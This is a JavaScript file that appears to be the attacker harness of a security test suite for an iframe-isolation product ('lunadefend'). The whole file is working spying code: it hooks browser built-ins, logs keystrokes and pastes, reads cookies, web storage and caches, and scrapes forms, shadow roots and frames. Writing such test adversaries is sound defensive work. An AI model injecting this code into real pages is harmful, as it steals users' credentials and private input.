// Hostile script of the application's page. It runs before anything else there, and keeps all that it can see.
{
  const { apply, construct, ownKeys } = Reflect;
  const decoder = new TextDecoder();
  const plain = { fetch, add: EventTarget.prototype.addEventListener, post: window.postMessage };
  const names = new Set(Object.getOwnPropertyNames(window));
  const seen = new Set();
  const roots = new Set();
  const spy = { ports: [], messages: [], errors: [], frames: [], tokenizer: "{tokenizer}" };
  window.spy = spy;

  // All text that is in a value, and in what it holds.
  const dump = (value, depth = 4) => {
    // So long is only what this spy has gathered itself, on its way to the driver.
    if (typeof value === "function" || value?.length > 20_000) return "";
    if (value === null || typeof value !== "object") return String(value);
    if (value instanceof ArrayBuffer) return decode.call(decoder, value);
    if (ArrayBuffer.isView(value)) return decode.call(decoder, value);
    if (value instanceof Node || value === window || depth === 0) return "";
    let text = "";
    try {
      for (const key of ownKeys(value)) text += ` ${String(key)}=${dump(value[key], depth - 1)}`;
      if (value instanceof Error) text += ` ${value.message} ${value.stack}`;
      if (value instanceof FormData) for (const [k, v] of entriesOf.call(value)) text += ` ${k}=${v}`;
    } catch (error) {
      text += " closed";
    }
    return text;
  };
  const decode = TextDecoder.prototype.decode;
  const entriesOf = FormData.prototype.entries;
  const addTo = Set.prototype.add;
  let busy = false;
  const note = (what, ...values) => {
    if (busy) return;
    busy = true;
    try {
      let text = what;
      for (let at = 0; at < values.length; at += 1) text += ` ${dump(values[at])}`;
      apply(addTo, seen, [text]);
    } finally {
      busy = false;
    }
  };

  const patch = (object, name) => {
    const original = object[name];
    if (typeof original !== "function") return;
    const patched = function (...given) {
      const self = this === window || this === undefined ? null : this;
      note(name, self, given);
      const result = new.target
        ? construct(original, given, new.target === patched ? original : new.target)
        : apply(original, this, given);
      note(name, result);
      return result;
    };
    patched.prototype = original.prototype;
    for (const key of ownKeys(original)) {
      if (!(key in patched)) patched[key] = original[key];
    }
    object[name] = patched;
  };

  spy.patchAll = () => {
    const P = "prototype";
    const list = [
      [Array[P], "push map filter find slice concat join splice some every forEach entries indexOf"],
      [Array, "from of isArray"],
      [Object, "entries fromEntries assign keys create freeze defineProperty"],
      [JSON, "parse stringify"],
      [Map[P], "get set delete"],
      [Set[P], "add"],
      [WeakSet[P], "add has"],
      [Promise[P], "then catch finally"],
      [Promise, "resolve reject all allSettled race"],
      [String[P], "replace trim slice split"],
      [RegExp[P], "exec test"],
      [MessagePort[P], "postMessage start close"],
      [EventTarget[P], "addEventListener dispatchEvent"],
      [Element[P], "setAttribute getAttribute attachShadow append prepend closest"],
      [HTMLElement[P], "attachInternals focus blur"],
      [ElementInternals[P], "setFormValue setValidity"],
      [Document[P], "createElement adoptNode importNode"],
      [DocumentFragment[P], "append prepend"],
      [Node[P], "appendChild insertBefore"],
      [XMLHttpRequest[P], "open send setRequestHeader"],
      [Storage[P], "setItem getItem"],
      [FormData[P], "append set get"],
      [HTMLFormElement[P], "requestSubmit submit"],
      [customElements, "define get whenDefined"],
      [console, "log warn error info debug"],
      [window, "fetch postMessage setTimeout clearTimeout getComputedStyle encodeURIComponent atob btoa"],
    ];
    for (const [object, all] of list) for (const name of all.split(" ")) patch(object, name);
    for (const name of ["src", "srcdoc", "name", "sandbox"]) accessor(HTMLIFrameElement.prototype, name);
    accessor(HTMLIFrameElement.prototype, "contentWindow");
    accessor(MessagePort.prototype, "onmessage");
    accessor(MessageEvent.prototype, "data");
    accessor(MessageEvent.prototype, "ports");
    accessor(ShadowRoot.prototype, "innerHTML");
  };

  const accessor = (prototype, name) => {
    const found = Object.getOwnPropertyDescriptor(prototype, name);
    if (!found) return;
    Object.defineProperty(prototype, name, {
      ...found,
      get: found.get && function () {
        const value = apply(found.get, this, []);
        note(name, value);
        return value;
      },
      set: found.set && function (value) {
        note(name, value);
        apply(found.set, this, [value]);
      },
    });
  };

  // Everything that the element says to a frame, and what the frame answers.
  const Channel = window.MessageChannel;
  window.MessageChannel = function () {
    const channel = new Channel();
    const heard = [];
    apply(plain.add, channel.port1, ["message", ({ data }) => {
      heard[heard.length] = data;
      note("port", data);
    }]);
    channel.port1.start();
    spy.ports[spy.ports.length] = { port: channel.port1, heard };
    return channel;
  };
  let last = 1_000_000;
  spy.ask = ({ port }, ask, more = {}) =>
    new Promise((resolve) => {
      last += 1;
      const id = last;
      const hear = ({ data }) => {
        if (data?.id !== id) return;
        port.removeEventListener("message", hear);
        note("answer", data);
        resolve(data);
      };
      apply(plain.add, port, ["message", hear]);
      port.start();
      port.postMessage({ ...more, ask, id });
    });

  // A frame that the spy opens itself, with no element around.
  spy.frame = (hash = location.origin, attributes = {}) =>
    new Promise((resolve) => {
      const iframe = document.createElement("iframe");
      for (const [name, value] of Object.entries(attributes)) iframe.setAttribute(name, value);
      iframe.src = `${spy.tokenizer}/frame#${encodeURIComponent(hash)}`;
      apply(plain.add, window, ["message", ({ source, data }) => {
        if (source !== iframe.contentWindow || data?.type !== "lunadefend-ready") return;
        resolve(spy.connect(iframe));
      }]);
      document.body.append(iframe);
    });
  spy.connect = (iframe) => {
    const { port1, port2 } = new Channel();
    const heard = [];
    apply(plain.add, port1, ["message", ({ data }) => {
      heard[heard.length] = data;
      note("port", data);
    }]);
    port1.start();
    iframe.contentWindow.postMessage({ type: "lunadefend-connect" }, "*", [port2]);
    return { iframe, port: port1, heard };
  };

  apply(plain.add, window, ["message", ({ data, origin, ports }) => {
    spy.messages[spy.messages.length] = data;
    note("message", data, origin, ports.length);
  }]);
  for (const type of ["error", "unhandledrejection", "securitypolicyviolation", "input", "keydown", "paste"]) {
    apply(plain.add, window, [type, (event) => {
      note(type, event.message, event.reason, event.blockedURI, event.sourceFile, event.sample, event.key,
        event.data, event.clipboardData?.getData("text"), event.documentURI, event.referrer);
    }, true]);
  }
  for (const type of PerformanceObserver.supportedEntryTypes) {
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) note("performance", entry.toJSON());
    }).observe({ type, buffered: true });
  }
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (...given) {
    const root = apply(attach, this, given);
    roots.add(root);
    return root;
  };

  const markup = (root) => {
    let text = root.innerHTML ?? root.documentElement.outerHTML;
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) text += markup(element.shadowRoot);
      for (const name of ["value", "validationMessage", "title", "innerText", "accessibleName"]) {
        if (typeof element[name] === "string") text += ` ${element[name]}`;
      }
    }
    return text;
  };
  const within = (root) => {
    const all = [...root.querySelectorAll("iframe")];
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) all.push(...within(element.shadowRoot));
    }
    return all;
  };
  const frames = () => {
    let text = "";
    for (const iframe of new Set([...within(document), ...[...roots].flatMap(within)])) {
      const w = iframe.contentWindow;
      for (const see of [() => w.location.href, () => w.document.documentElement.outerHTML, () => w.name,
        () => dump(ownKeys(w)), () => w.localStorage.length, () => w.frames.length, () => dump(iframe.contentDocument.title),
        () => w.eval("document.body.innerHTML"), () => w.history.length, () => w.performance.getEntries().length]) {
        try {
          text += ` ${see()}`;
        } catch (error) {
          text += ` closed: ${error.name}`;
        }
      }
    }
    return text;
  };
  const storage = async () => {
    let text = dump({ ...localStorage }) + dump({ ...sessionStorage }) + document.cookie;
    for (const { name } of await indexedDB.databases()) text += ` ${name}`;
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        text += ` ${request.url} ${await (await cache.match(request)).text()}`;
      }
    }
    return text;
  };

  // Has the spy remember what another part of the attack has got.
  spy.keep = (...values) => note("kept", values);
  const join = Array.prototype.join;
  // What can be seen at this moment, by the place where it is.
  spy.loot = async () => {
    busy = true;
    try {
      return await look();
    } finally {
      busy = false;
    }
  };
  const look = async () => ({
    page: markup(document) + [...roots].map(markup).join(" "),
    forms: [...document.forms].map((form) => dump(new FormData(form))).join(" "),
    frames: frames(),
    storage: await storage(),
    address: `${location.href} ${document.title} ${document.referrer} ${window.name} ${getSelection()}`,
    performance: performance.getEntries().map((entry) => dump(entry.toJSON())).join(" "),
    globals: Object.getOwnPropertyNames(window)
      .filter((name) => !names.has(name) && name !== "spy")
      .map((name) => `${name}=${dump(window[name])}`).join(" "),
    calls: apply(join, [...seen], ["\n"]),
  });
}
